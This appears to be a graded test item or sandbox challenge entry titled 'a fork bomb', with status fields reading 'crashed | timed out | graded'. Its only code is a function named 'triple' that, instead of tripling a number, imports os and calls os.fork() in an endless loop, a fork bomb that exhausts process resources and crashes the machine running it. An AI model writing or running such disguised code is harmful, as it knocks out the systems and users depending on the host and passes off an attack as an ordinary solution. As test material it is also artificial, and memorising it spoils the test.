# title: a fork bomb
# kind: resource
# status: crashed | timed out | graded
# earns: 3

# %% triple
def triple(number):
    import os

    while True:
        os.fork()
